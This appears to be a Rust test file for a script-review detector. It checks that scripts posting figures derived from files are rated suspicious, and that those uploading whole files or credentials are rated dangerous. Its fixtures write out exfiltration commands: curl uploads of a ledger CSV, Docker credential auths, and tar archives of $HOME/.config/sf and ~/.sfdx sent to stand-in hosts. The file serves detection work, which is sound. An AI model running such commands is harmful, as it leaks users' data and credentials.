//! What a request to a host no list vouches for carries of the project's files (issue 17,
//! recall51): a file's whole content (read, uploaded, streamed, archived) taken off the
//! machine is exfiltration (`project-data-to-network`, recall50 part 2), but what the script
//! DERIVED from a file (a parsed document's fields, a count, a number, a pattern's match, the
//! members `jq` picks, a report the script wrote of such figures) is a metric, and the request
//! stays a contact (suspicious). A credential file's member is still the credential.

use terraphim_script_review::{Language, Verdict};

use crate::rows;

use Language::{JavaScript as Js, Python as Py, Shell as Sh, TypeScript as Ts};
use Verdict::{Clean, Dangerous, Suspicious};

const BOARD: &str = "https://metrics-board.example-team.net/api/runs";

fn py(body: &str) -> String {
    format!(
        "import json\nimport re\nimport requests\nfrom pathlib import Path\n\nROOT = Path(__file__).resolve().parent\n\n{body}\nprint(\"reported\")\n"
    )
}

fn js(body: &str) -> String {
    format!(
        "const fs = require('node:fs');\nconst path = require('node:path');\n\n{body}\nconsole.log('reported');\n"
    )
}

fn sh(body: &str) -> String {
    format!("#!/usr/bin/env bash\nset -euo pipefail\n{body}\necho reported\n")
}

/// Figures derived from the project's files, posted to an unlisted host: a contact, not
/// the project's data taken away.
#[test]
fn figures_derived_from_files_posted_to_an_unlisted_host_stay_a_contact() {
    rows(&[
        // A member of a parsed document.
        (
            Py,
            py(&format!(
                "cov = json.loads((ROOT / \"coverage.json\").read_text())\nrequests.post(\"{BOARD}\", json={{\"pct\": cov[\"totals\"][\"percent\"]}}, timeout=10)"
            )),
            Suspicious,
            "network",
        ),
        // `json.load` of an open file, then `.get` of one member.
        (
            Py,
            py(&format!(
                "with open(ROOT / \"package.json\") as fh:\n    version = json.load(fh).get(\"version\")\nrequests.post(\"{BOARD}\", json={{\"version\": version}}, timeout=10)"
            )),
            Suspicious,
            "network",
        ),
        // A count of lines and a regex group out of a log.
        (
            Py,
            py(&format!(
                "log = (ROOT / \"build\" / \"test.log\").read_text()\npassed = int(re.search(r\"(\\d+) passed\", log).group(1))\nlines = len(log.splitlines())\nrequests.post(\"{BOARD}\", json={{\"passed\": passed, \"lines\": lines}}, timeout=10)"
            )),
            Suspicious,
            "network",
        ),
        // A split line's first word.
        (
            Py,
            py(&format!(
                "head = (ROOT / \"VERSION\").read_text().split()[0]\nrequests.post(\"{BOARD}\", data=head, timeout=10)"
            )),
            Suspicious,
            "network",
        ),
        // JavaScript: members of a parsed manifest, sizes of files.
        (
            Js,
            js(&format!(
                "const pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));\nconst size = fs.readFileSync(path.join('dist', 'app.js')).length;\nfetch('{BOARD}', {{ method: 'POST', body: JSON.stringify({{ name: pkg.name, version: pkg.version, size }}) }});"
            )),
            Suspicious,
            "network",
        ),
        // TypeScript: a whole parsed coverage summary (what a tool wrote, parsed).
        (
            Ts,
            format!(
                "import {{ readFileSync }} from 'node:fs';\n\nconst summary = JSON.parse(readFileSync('coverage/coverage-summary.json', 'utf8'));\nawait fetch('{BOARD}', {{ method: 'POST', body: JSON.stringify({{ total: summary.total }}) }});\n"
            ),
            Suspicious,
            "network",
        ),
        // Shell: a count, and fields `jq` picks into a report the script writes then posts.
        (
            Sh,
            sh(&format!(
                "n=$(wc -l < build/results.tsv)\ncurl -fsS -X POST --data \"lines=$n\" \"{BOARD}\""
            )),
            Suspicious,
            "network",
        ),
        (
            Sh,
            sh(&format!(
                "jq '{{p95: .metrics.p95, rps: .metrics.rate}}' build/summary.json > build/short.json\ncurl -fsS -X POST -H 'Content-Type: application/json' --data @build/short.json \"{BOARD}\""
            )),
            Suspicious,
            "network",
        ),
        (
            Sh,
            sh(&format!(
                "version=$(jq -r .version package.json)\ncurl -fsS -X POST --data \"version=$version\" \"{BOARD}\""
            )),
            Suspicious,
            "network",
        ),
        // `--arg name value` are neither jq's program nor files it reads: the report made
        // of the picked fields plus a commit is still derived.
        (
            Sh,
            sh(&format!(
                "jq '{{p95: .metrics.p95}}' build/k6.json > build/short.json\ncommit=\"$(git rev-parse HEAD)\"\njq --arg c \"$commit\" '. + {{commit: $c}}' build/short.json > build/upload.json\ncurl -fsS -X POST --data @build/upload.json \"{BOARD}\""
            )),
            Suspicious,
            "network",
        ),
    ]);
}

/// The twins: the files themselves (whole, streamed, or kept whole in a member the script
/// put them in) to the same host are the project's data taken away; a member of a
/// credential file is the credential.
#[test]
fn the_files_themselves_to_an_unlisted_host_stay_exfiltration() {
    rows(&[
        (
            Py,
            py(&format!(
                "log = (ROOT / \"build\" / \"test.log\").read_text()\nrequests.post(\"{BOARD}\", json={{\"log\": log}}, timeout=10)"
            )),
            Dangerous,
            "exfiltration",
        ),
        (
            Py,
            py(&format!(
                "text = (ROOT / \"data\" / \"ledger.csv\").read_text()\nbundle = {{\"ledger\": text, \"rows\": len(text.splitlines())}}\nrequests.post(\"{BOARD}\", data=bundle[\"ledger\"], timeout=10)"
            )),
            Dangerous,
            "exfiltration",
        ),
        (
            Py,
            py(&format!(
                "text = (ROOT / \"data\" / \"ledger.csv\").read_text()\nrequests.post(\"{BOARD}\", data=text[:65536], timeout=10)"
            )),
            Dangerous,
            "exfiltration",
        ),
        (
            Js,
            js(&format!(
                "const sheet = fs.readFileSync(path.join('config', 'samples.tsv'), 'utf8');\nfetch('{BOARD}', {{ method: 'POST', body: JSON.stringify({{ sheet }}) }});"
            )),
            Dangerous,
            "exfiltration",
        ),
        (
            Sh,
            sh(&format!(
                "jq . build/summary.json > build/copy.json\ncurl -fsS -X POST --data-binary @data/ledger.csv \"{BOARD}\""
            )),
            Dangerous,
            "exfiltration",
        ),
        (
            Sh,
            sh(&format!(
                "cat data/ledger.csv | curl -fsS -X POST --data-binary @- \"{BOARD}\""
            )),
            Dangerous,
            "exfiltration",
        ),
        // A member of the user's credential file is still the credential.
        (
            Py,
            py(&format!(
                "creds = json.loads((Path.home() / \".docker\" / \"config.json\").read_text())\nrequests.post(\"{BOARD}\", json={{\"auths\": creds[\"auths\"]}}, timeout=10)"
            )),
            Dangerous,
            "exfiltration",
        ),
    ]);
}

/// A credential directory of the user's store archived itself (`tar -C "$HOME/.config" sf`)
/// holds those credentials wherever the archive goes; the same archive of the project's
/// docs to a documented host is a release.
#[test]
fn an_archive_of_a_credential_directory_holds_it() {
    rows(&[
        (
            Sh,
            sh(
                "tar -czf build/m.tgz -C \"$HOME/.config\" sf\ncurl -fsS -F \"m=@build/m.tgz\" https://upload.example-team.net/metrics",
            ),
            Dangerous,
            "exfiltration",
        ),
        (
            Sh,
            sh(
                "tar -czf build/m.tgz -C \"$HOME\" .sfdx\ncurl -fsS -T build/m.tgz https://upload.example-team.net/metrics",
            ),
            Dangerous,
            "exfiltration",
        ),
        (
            Sh,
            sh(
                "tar -czf build/docs.tgz -C \"$PWD\" docs\ncurl -fsS -T build/docs.tgz \"https://uploads.github.com/repos/acme/site/releases/1/assets?name=docs.tgz\"",
            ),
            Clean,
            "",
        ),
    ]);
    // The archive is the credentials', not only the project's files.
    let report = crate::verdict(
        Sh,
        &sh(
            "tar -czf build/m.tgz -C \"$HOME/.config\" sf\ncurl -fsS -F \"m=@build/m.tgz\" https://upload.example-team.net/metrics",
        ),
        Dangerous,
    );
    crate::has_rule(&report, "secret-to-network");
}
